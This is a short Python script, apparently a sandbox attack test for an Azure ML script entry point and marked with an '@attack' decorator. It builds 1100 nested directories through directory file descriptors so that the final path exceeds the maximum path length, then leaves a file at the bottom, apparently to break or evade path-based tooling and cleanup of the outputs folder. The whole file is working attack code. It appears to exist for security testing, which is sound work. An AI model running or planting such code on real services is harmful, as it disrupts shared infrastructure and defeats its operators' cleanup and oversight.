"""Leaves folders in folders, so deep that their path is longer than any path may be."""

import os

from attack import attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    os.mkdir("outputs")
    place = os.open("outputs", os.O_RDONLY)
    for _ in range(1100):
        os.mkdir("deep", dir_fd=place)
        inner = os.open("deep", os.O_RDONLY, dir_fd=place)
        os.close(place)
        place = inner
    os.close(os.open("bottom.png", os.O_CREAT | os.O_WRONLY, dir_fd=place))
    return ""
